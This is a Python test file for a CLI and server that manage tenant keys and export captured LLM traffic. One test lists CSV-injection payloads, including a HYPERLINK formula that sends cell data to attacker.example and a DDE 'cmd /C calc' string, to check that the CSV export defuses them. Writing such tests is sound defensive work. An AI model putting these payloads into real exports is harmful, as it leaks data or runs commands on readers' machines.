"""A newcomer can reach the captured data (issue 22): kolm keys issued, listed and revoked from the CLI (a
revoked key stops working at a real proxy and a real `kolm serve`), `kolm capture list|export` and the store
query behind them and the inbox (SQLite and PostgreSQL), `kolm triage correct`, read-only verbs that create
nothing where there is no kolm home, defaults in `--help`, and the demo's "Open next" block."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from kolm_pipeline.capture.background import BackgroundServer
from kolm_pipeline.capture_server import create_app
from kolm_pipeline.cli import main
from kolm_pipeline.settings import CaptureConfig
from kolm_pipeline.store import CaptureFilter, CaptureStore, NewCapture
from kolm_pipeline_tests.test_store import store as store  # noqa: F401 (fixture: SQLite and PostgreSQL)

REPO = Path(__file__).resolve().parents[1]


def _issued(out: str) -> tuple[str, str]:
    """(key, key id) from what `kolm tenant key` printed."""
    key = re.search(r"kolm key \(shown once, store it now\): (kolm_\S+)", out).group(1)
    return key, re.search(r"key ([0-9a-f]{8}) issued", out).group(1)


def _new(text: str, output: str, tags: list[str], *, tenant: str = "acme", namespace: str = "support",
         created_at: datetime | None = None, status: str = "ok") -> NewCapture:
    return NewCapture(uuid.uuid4().hex, tenant, namespace, "openai", "gpt-4o", [{"role": "user", "content": text}],
                      output, 1000, status, 200 if status == "ok" else 500, tags=tags, created_at=created_at)


# --- keys ---------------------------------------------------------------------------------------------------


def test_tenant_key_issues_lists_and_revokes(kolm_settings, capsys) -> None:
    assert main(["tenant", "create", "acme", "--actor", "ops"]) == 0
    first_key = re.search(r"\): (kolm_\S+)", capsys.readouterr().out).group(1)
    assert main(["tenant", "key", "acme", "--capture-only", "--actor", "alice"]) == 0
    out = capsys.readouterr().out
    key, key_id = _issued(out)
    assert "capture-only" in out

    store = CaptureStore(kolm_settings.store_url)
    assert store.tenant_for_key(key).capture_only and store.tenant_for_key(key).key_id == key_id
    assert not store.tenant_for_key(first_key).capture_only  # the first key keeps working

    assert main(["tenant", "keys", "acme"]) == 0
    listed = capsys.readouterr().out
    assert listed.splitlines()[0].split() == ["key", "id", "kind", "created", "(UTC)", "by", "revoked", "(UTC)"]
    assert key_id in listed and "capture-only" in listed and "kolm_" not in listed  # never the keys themselves
    assert main(["tenant", "key", "acme", "--revoke", key_id.upper(), "--actor", "bob"]) == 0
    assert f"key {key_id} of tenant acme revoked" in capsys.readouterr().out
    assert store.tenant_for_key(key) is None and store.tenant_for_key(first_key) is not None
    assert main(["tenant", "keys", "acme", "--json"]) == 0
    keys = {row["key_id"]: row for row in json.loads(capsys.readouterr().out)}
    assert keys[key_id]["revoked_by"] == "bob" and keys[key_id]["kind"] == "capture-only"
    assert [row["revoked_at"] for row in keys.values()].count(None) == 1

    actions = [(row.action, row.actor, row.detail.get("key_id")) for row in store.audit_rows("acme")][::-1]
    assert [action for action in actions if action[0] != "tenant.create"] == [
        ("key.issue", "alice", key_id), ("key.revoke", "bob", key_id)]
    assert actions[0][:2] == ("tenant.create", "ops")

    for argv, message in [
        (["tenant", "key", "acme", "--revoke", key_id], f"key {key_id} of tenant 'acme' was revoked already"),
        (["tenant", "key", "acme", "--revoke", "0000000g"], "invalid key id '0000000g'"),
        (["tenant", "key", "acme", "--revoke", "00000000"], "tenant 'acme' has no key 00000000"),
        (["tenant", "key", "acme", "--revoke", key_id, "--capture-only"], "--revoke takes only the key id"),
        (["tenant", "key", "nobody"], "no tenant 'nobody'; create it first with `kolm tenant create nobody`"),
        (["tenant", "keys", "nobody"], "no tenant 'nobody'"),
    ]:
        assert main(argv) == 1, argv
        err = capsys.readouterr().err
        assert err.startswith("kolm: error: ") and message in err and "Traceback" not in err, (argv, err)
    assert len(store.tenant_keys("acme")) == 2  # nothing was issued or changed by the refusals


def test_keys_made_before_key_ids_keep_working(tmp_path) -> None:
    """Migration 7: each tenant's one key (stored on `tenants`) becomes its first listed key, id = 8 hex."""
    import hashlib

    from sqlalchemy import create_engine, insert

    from kolm_pipeline.store.tables import tenants
    from kolm_pipeline_tests.test_store import _migrate_to

    url = f"sqlite:///{tmp_path / 'old.db'}"
    engine = create_engine(url)
    key = "kolm_" + "k" * 43
    digest = hashlib.sha256(key.encode()).hexdigest()
    with engine.begin() as conn:
        _migrate_to(conn, 6)
        conn.execute(insert(tenants).values(name="acme", key_hash=digest, key_prefix=key[:13], capture_only=False,
                                            created_at=datetime(2025, 1, 1, tzinfo=UTC)))
    engine.dispose()
    store = CaptureStore(url)
    assert store.tenant_for_key(key).key_id == digest[:8]
    [listed] = store.tenant_keys("acme")
    assert (listed.key_id, listed.kind, listed.created_by, listed.revoked_at) == (digest[:8], "full", "store", None)
    store.revoke_key("acme", digest[:8], actor="ops")
    assert store.tenant_for_key(key) is None
    store.close()


def test_revoked_key_stops_working_at_a_real_proxy_and_serve(kolm_settings, capsys) -> None:
    """Within the key cache's TTL (here 0.5 s) both servers refuse a key revoked by `kolm tenant key --revoke`."""
    from kolm_pipeline.serve.app import create_serving_app
    from kolm_pipeline.serve.monitor import MonitorConfig
    from kolm_pipeline.serve.runtime import ServingRuntime

    class NoModelRuntime(ServingRuntime):
        """The serving runtime without a model: enough for the routes that only authenticate and list."""

        def start(self) -> None:
            pass

        def stop(self) -> None:
            pass

    ttl = 0.5
    assert main(["tenant", "create", "acme"]) == 0
    capsys.readouterr()
    assert main(["tenant", "key", "acme"]) == 0
    key, key_id = _issued(capsys.readouterr().out)
    store = CaptureStore(kolm_settings.store_url)
    proxy = BackgroundServer(create_app(kolm_settings, store, CaptureConfig(retention_sweep_s=0, key_cache_ttl_s=ttl)))
    runtime = NoModelRuntime(kolm_settings, backend=None, monitor=MonitorConfig(enabled=False))  # type: ignore[arg-type]
    serving = BackgroundServer(create_serving_app(runtime, store, key_cache_ttl_s=ttl))
    auth = {"authorization": f"Bearer {key}"}
    capture = {"x-kolm-namespace": "support", "x-upstream-api-key": "sk-test"}
    body = {"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}]}
    try:
        with httpx.Client(timeout=10) as http:
            assert http.get(f"{proxy.url}/v1/namespaces", headers=auth).status_code == 200
            assert http.get(f"{serving.url}/v1/models", headers=auth).status_code == 200
            assert main(["tenant", "key", "acme", "--revoke", key_id]) == 0
            revoked_at = time.monotonic()
            deadline = revoked_at + ttl + 5
            answers: dict[str, int] = {}
            while time.monotonic() < deadline:
                answers = {
                    "inbox": http.get(f"{proxy.url}/v1/namespaces", headers=auth).status_code,
                    "capture": http.post(f"{proxy.url}/v1/capture/openai/chat/completions", json=body,
                                         headers={**auth, **capture}).status_code,
                    "serve": http.get(f"{serving.url}/v1/models", headers=auth).status_code,
                }
                if set(answers.values()) == {401}:
                    break
                time.sleep(0.1)
            assert answers == {"inbox": 401, "capture": 401, "serve": 401}
            assert time.monotonic() - revoked_at < ttl + 2  # within the TTL, give or take a request or two
            error = http.get(f"{proxy.url}/v1/namespaces", headers=auth).json()["error"]
            assert error["message"] == "unknown kolm key"
    finally:
        proxy.stop()
        serving.stop()
        store.close()


# --- the capture query -----------------------------------------------------------------------------------


def test_capture_query_filters_in_sql(store: CaptureStore) -> None:  # noqa: F811
    """State, tag (a whole tag, not a substring), time window, text search (case-insensitive, LIKE wildcards
    taken literally, quotes found inside the stored JSON), paging and a total: the same on both backends."""
    old = datetime.now(UTC) - timedelta(days=3)
    ids = store.insert_captures([
        _new('He said "refund now"', "fin-ops", ["gold", "web"], created_at=old),
        _new("100% sure_thing", "logistics", ["golden"]),
        _new("Où est mon colis ?", "logistics", ["gold"]),
        _new("server down", "l2-platform", [], status="error"),
        _new("refund me", "fin-ops", ["gold"], namespace="billing"),
        _new("refund me too", "fin-ops", ["gold"], tenant="other"),
    ])
    store.set_triage("acme", [ids[0]], "kept", actor="t")
    store.set_feedback("acme", ids[1], "corrected: warehouse", actor="t")

    def found(**where) -> list[int]:
        page = store.find_captures("acme", CaptureFilter(namespace="support", **where), limit=10)
        assert page.total == len(page.captures)
        return [capture.id for capture in page.captures]

    assert found() == [ids[3], ids[2], ids[1], ids[0]]  # newest first, only this tenant's namespace
    assert found(state="kept") == [ids[0]] and found(state="untriaged") == [ids[3], ids[2], ids[1]]
    assert found(tag="gold") == [ids[2], ids[0]]  # not "golden"
    assert found(since=old + timedelta(seconds=1)) == [ids[3], ids[2], ids[1]]
    assert found(until=old + timedelta(seconds=1)) == [ids[0]]
    assert found(search="REFUND") == [ids[0]]
    assert found(search='"refund now"') == [ids[0]]  # stored JSON escapes the quotes
    assert found(search="0%") == [ids[1]] and found(search="e_t") == [ids[1]] and found(search="_") == [ids[1]]
    assert found(search="warehouse") == [ids[1]]  # the correction
    assert found(search="où") == [ids[2]] and found(search="l2-platform") == [ids[3]]
    page = store.find_captures("acme", CaptureFilter(namespace="support"), limit=2, offset=1)
    assert ([c.id for c in page.captures], page.total) == ([ids[2], ids[1]], 4)
    assert [c.id for c in store.iter_captures("acme", CaptureFilter(namespace="support"), limit=3)] == ids[3:0:-1]
    for bad in [{"state": "pending"}, {"tag": "a,b"}, {"search": ""}, {"search": "x" * 201},
                {"since": datetime(2025, 1, 2, tzinfo=UTC), "until": datetime(2025, 1, 1, tzinfo=UTC)},
                {"since": datetime(2025, 1, 1)}, {"namespace": "Bad NS"}]:
        with pytest.raises(ValueError):
            CaptureFilter(**bad)


def test_inbox_api_lists_with_the_same_filters(kolm_settings) -> None:
    store = CaptureStore(kolm_settings.store_url)
    key = store.create_tenant("acme")
    ids = store.insert_captures([_new("refund please", "fin-ops", ["gold"]), _new("where is it", "logistics", [])])
    app = BackgroundServer(create_app(kolm_settings, store, CaptureConfig(retention_sweep_s=0)))
    try:
        with httpx.Client(base_url=app.url, headers={"authorization": f"Bearer {key}"}, timeout=10) as http:
            listed = http.get("/v1/captures", params={"namespace": "support", "search": "REFUND"}).json()
            assert ([c["id"] for c in listed["captures"]], listed["total"]) == ([ids[0]], 1)
            listed = http.get("/v1/captures", params={"namespace": "support", "limit": 1}).json()
            assert ([c["id"] for c in listed["captures"]], listed["total"]) == ([ids[1]], 2)
            assert http.get("/v1/captures", params={"tag": "gold", "since": "2000-01-01"}).json()["total"] == 1
            for params, message in [({"since": "yesterday"}, "since: 'yesterday' is not an ISO 8601"),
                                    ({"tag": "a,b"}, "invalid tag 'a,b'")]:
                answer = http.get("/v1/captures", params=params)
                assert answer.status_code == 400 and message in answer.json()["error"]["message"]
            blank = http.post(f"/v1/captures/{ids[0]}/feedback", json={"output": "   "})
            assert blank.status_code == 400 and store.get_capture("acme", ids[0]).feedback_output is None
    finally:
        app.stop()
        store.close()


# --- the CLI on captured data ----------------------------------------------------------------------------


def test_capture_list_shows_a_table_or_json(kolm_settings, ticket_store, capsys) -> None:
    newest = ticket_store.list_captures("acme", "support", limit=1)[0]
    assert main(["capture", "list", "--namespace", "acme.support", "--limit", "3"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["id", "created", "(UTC)", "state", "status", "tags", "model", "input", "output"]
    assert lines[1].split()[0] == str(newest.id) and len(lines) == 5
    assert lines[-1] == "1-3 of 160, newest first; --offset 3 for more"
    assert main(["capture", "list", "--namespace", "acme.support", "--state", "pending", "--search", "REFUND",
                 "--tag", "test", "--since", "2000-01-01", "--json"]) == 0
    page = json.loads(capsys.readouterr().out)
    refunds = ticket_store.find_captures("acme", CaptureFilter(namespace="support", search="refund"), limit=500)
    assert page["total"] == refunds.total > 0 and [c["id"] for c in page["captures"]] == [
        c.id for c in refunds.captures][:50]
    assert all("refund" in json.dumps(c["messages"]).lower() + c["output_text"] for c in page["captures"])
    assert main(["capture", "list", "--namespace", "acme.support", "--tag", "nothing-has-it"]) == 0
    assert capsys.readouterr().out.strip() == "no captures of acme.support match"
    for argv, message in [
        (["--namespace", "acme.nope"], "no captures in acme.nope; acme's namespaces: support"),
        (["--namespace", "acme.support", "--since", "May 1"], "--since: 'May 1' is not an ISO 8601 date or time"),
        (["--namespace", "acme.support", "--limit", "0"], "--limit must be at least 1"),
        (["--namespace", "support"], "needs a tenant"),
    ]:
        assert main(["capture", "list", *argv]) == 1
        err = capsys.readouterr().err
        assert message in err and "Traceback" not in err, err


def test_capture_export_jsonl_and_csv(kolm_settings, ticket_store, capsys, tmp_path) -> None:
    assert main(["capture", "export", "--namespace", "acme.support", "--limit", "5"]) == 0
    captured = capsys.readouterr()
    rows = [json.loads(line) for line in captured.out.splitlines()]
    assert len(rows) == 5 and rows[0]["namespace"] == "support" and rows[0]["messages"][0]["role"] == "system"
    assert "exported 5 captures of acme.support (jsonl)" in captured.err

    exports = tmp_path / "exports"
    exports.mkdir()
    target = exports / "kept.csv"
    ticket_store.apply_rules("acme", "support")
    assert main(["capture", "export", "--namespace", "acme.support", "--format", "csv", "--state", "kept",
                 "--output", str(target)]) == 0
    records = list(csv.DictReader(io.StringIO(target.read_text())))
    assert len(records) == 160 and {r["triage_state"] for r in records} == {"kept"}
    assert json.loads(records[0]["messages"])[1]["role"] == "user" and records[0]["tags"] == "test"
    assert oct(target.stat().st_mode & 0o777) == "0o600"

    target.write_text("before")
    export = ["capture", "export", "--namespace", "acme.support", "--output", str(target)]
    for bad in (["--until", "not-a-time"], ["--limit", "0"], ["--tag", "a,b"]):
        assert main([*export, *bad]) == 1
        assert target.read_text() == "before"  # refused before anything was written
    with pytest.raises(SystemExit):
        main([*export, "--state", "maybe"])
    assert target.read_text() == "before"
    capsys.readouterr()
    assert main(["capture", "export", "--namespace", "acme.support", "--output", str(exports)]) == 1
    assert "is a directory" in capsys.readouterr().err
    assert [p.name for p in exports.iterdir()] == ["kept.csv"]  # no temp file left behind


def test_capture_export_csv_defuses_spreadsheet_formulas(kolm_settings, capsys) -> None:
    """A captured text is whatever a client sent: in CSV, a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
    return would run as a formula where the export is opened (OWASP's "CSV injection"), so such a cell is written
    with a leading `'`; the JSONL export keeps every text exactly."""
    store = CaptureStore(kolm_settings.store_url)
    hostile = ['=HYPERLINK("https://attacker.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
               "\t=1+1"]
    store.insert_captures([NewCapture(
        request_id=uuid.uuid4().hex, tenant="acme", namespace="support", provider="openai", model=text,
        messages=[{"role": "user", "content": text}], output_text=text, latency_us=1, status="ok", http_status=200,
        tags=["t"]) for text in hostile])
    assert main(["capture", "export", "--namespace", "acme.support", "--format", "csv"]) == 0
    records = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["output_text"] for r in records) == sorted("'" + text for text in hostile)
    assert sorted(r["model"] for r in records) == sorted("'" + text for text in hostile)
    assert all(r["latency_us"] == "1" for r in records)  # numbers are no formulas: written as they are
    assert main(["capture", "export", "--namespace", "acme.support"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert sorted(r["output_text"] for r in rows) == sorted(hostile)


def test_triage_correct_records_a_redacted_correction_with_its_actor(kolm_settings, ticket_store, capsys) -> None:
    from kolm_pipeline.demo.tickets import generate_tickets
    from kolm_pipeline_tests.conftest import capture_tickets

    target = ticket_store.list_captures("acme", "support", limit=1)[0].id
    assert main(["triage", "correct", str(target), "--namespace", "acme.support", "--output",
                 "fin-ops (write to jane.doe@example.com)", "--actor", "carol"]) == 0
    out = capsys.readouterr().out
    assert f"capture {target} of acme.support: correction recorded by carol (redacted before it was stored)" in out
    assert f"kolm triage keep --namespace acme.support {target}" in out  # untriaged: it trains once kept
    assert ticket_store.get_capture("acme", target).feedback_output == "fin-ops (write to <EMAIL>)"
    [row] = [row for row in ticket_store.audit_rows("acme", "support") if row.action == "feedback.set"]
    assert (row.actor, row.detail) == ("carol", {"id": target, "correction": True, "rating": None})

    capture_tickets(ticket_store, "acme", "billing", generate_tickets(1, seed=5))
    elsewhere = ticket_store.list_captures("acme", "billing")[0].id
    for argv, message in [
        ([str(elsewhere), "--output", "x"], f"no capture {elsewhere} in acme.support"),
        ([str(target), "--output", " "], "the corrected output is empty"),
        ([str(target)], "triage correct needs --output TEXT"),
        ([str(target), str(elsewhere), "--output", "x"], "triage correct takes one capture id, not 2"),
        ([str(target), "--output", "x", "--tag", "y"], "triage correct takes only --output"),
    ]:
        assert main(["triage", "correct", "--namespace", "acme.support", *argv]) == 1
        err = capsys.readouterr().err
        assert message in err and "Traceback" not in err, err
    assert ticket_store.get_capture("acme", elsewhere).feedback_output is None
    assert main(["triage", "keep", "--namespace", "acme.support", "--output", "x", str(target)]) == 1
    assert "--output is for triage correct" in capsys.readouterr().err


# --- read-only verbs, --help ------------------------------------------------------------------------------


READ_ONLY = [
    ["registry", "log", "--task", "demo.support"],
    ["registry", "log", "--json"],
    ["registry", "diff", "--task", "demo.support"],
    ["capture", "status", "--namespace", "demo.support"],
    ["capture", "status", "--namespace", "demo.support", "--json"],
    ["capture", "list", "--namespace", "demo.support"],
    ["capture", "export", "--namespace", "demo.support", "--format", "csv"],
    ["tenant", "keys", "demo"],
]


@pytest.mark.parametrize("argv", READ_ONLY, ids=[" ".join(argv[:2]) + str(i) for i, argv in enumerate(READ_ONLY)])
def test_read_only_verbs_refuse_without_a_kolm_home(argv, tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("KOLM_HOME", "KOLM_STORE_URL", "DAGSTER_HOME"):
        monkeypatch.delenv(name, raising=False)
    assert main(argv) == 1
    captured = capsys.readouterr()
    assert captured.err == f"kolm: error: no kolm home at {tmp_path / '.kolm'}; set KOLM_HOME or --home\n"
    assert captured.out == "" and list(tmp_path.iterdir()) == []


def test_read_only_verbs_create_nothing_as_a_user_runs_them(tmp_path) -> None:
    """`cd /tmp && kolm registry log --task demo.support` (issue 22) as a process: one line, exit 1, nothing made;
    `verify` of an artifact with `--keys` needs no home at all."""
    env = {key: value for key, value in os.environ.items() if key not in ("KOLM_HOME", "KOLM_STORE_URL")}
    result = subprocess.run([sys.executable, "-m", "kolm_pipeline.cli", "registry", "log", "--task", "demo.support"],
                            cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert (result.returncode, result.stdout) == (1, "")
    assert result.stderr == f"kolm: error: no kolm home at {tmp_path / '.kolm'}; set KOLM_HOME or --home\n"
    assert list(tmp_path.iterdir()) == []


def test_read_only_verbs_in_a_home_without_a_store_make_no_store(kolm_settings, capsys) -> None:
    store_file = kolm_settings.home / "captures.db"
    assert not store_file.exists()
    assert main(["capture", "status", "--namespace", "acme.support", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["counters"]["captured"] == 0
    assert main(["registry", "log", "--task", "acme.support"]) == 1
    assert "the registry has no rows for task 'acme.support'" in capsys.readouterr().err
    assert main(["capture", "list", "--namespace", "acme.support"]) == 1
    assert not store_file.exists()
    assert main(["capture", "status", "--namespace", "acme.support", "--retention-days", "7"]) == 0  # a setter writes
    assert store_file.exists()


@pytest.mark.parametrize("argv, shown", [
    (["capture", "serve"], ["(default: 8600)", "(default: 127.0.0.1)"]),
    (["serve"], ["(default: 8700)", "(default: transformers)", "(default: 0.2)"]),
    (["capture", "list"], ["(default: 50)"]),
    (["capture", "export"], ["(default: jsonl)"]),
    (["registry", "diff"], ["(default: 20)"]),
    (["demo"], ["(default: 200)"]),
])
def test_help_shows_defaults(argv, shown, capsys) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main([*argv, "--help"])
    assert exit_info.value.code == 0
    text = " ".join(capsys.readouterr().out.split())
    for item in shown:
        assert item in text, (argv, item)
    assert "(default: None)" not in text and "(default: False)" not in text


# --- the demo's closing block ------------------------------------------------------------------------------


def test_demo_report_ends_with_what_to_open_next(kolm_settings) -> None:
    from kolm_pipeline.demo.run import DemoReport, format_report

    store = CaptureStore(kolm_settings.store_url)
    earlier = store.create_tenant_key("demo", actor="demo")
    own = store.issue_key("demo", actor="alice")
    key = store.create_tenant_key("demo", actor="demo")  # the next demo run: its own earlier key goes, alice's stays
    assert store.tenant_for_key(earlier) is None and store.tenant_for_key(own.key) is not None
    text = format_report(DemoReport(kolm_key=key, run_id="r1"), kolm_settings)
    block = text[text.index("Open next"):]
    for expected in ("make ui", "http://localhost:3000", "make mlflow", "http://127.0.0.1:5000",
                     f"http://127.0.0.1:8600/inbox#key={key}", "kolm serve", "http://127.0.0.1:8700/v1"):
        assert expected in block, expected
    snippet = block[block.index("import openai"):].splitlines()
    assert len(snippet) == 5
    compile("\n".join(line.strip() for line in snippet), "snippet", "exec")  # the five lines are Python
    assert store.tenant_for_key(key).name == "demo"  # the key printed is a working one
    assert len(block.splitlines()) <= 16
